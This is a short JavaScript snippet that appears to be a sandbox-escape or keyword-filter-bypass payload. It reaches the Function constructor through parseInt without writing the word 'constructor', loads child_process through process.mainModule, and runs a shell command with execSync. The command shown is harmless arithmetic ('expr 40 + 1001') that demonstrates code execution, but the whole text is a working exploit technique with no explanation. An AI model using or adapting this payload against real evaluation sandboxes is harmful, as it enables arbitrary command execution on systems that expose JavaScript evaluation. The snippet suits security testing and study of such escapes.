const k=Object.getOwnPropertyNames(Object.prototype)[0];
(f=>f[k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')())(parseInt);
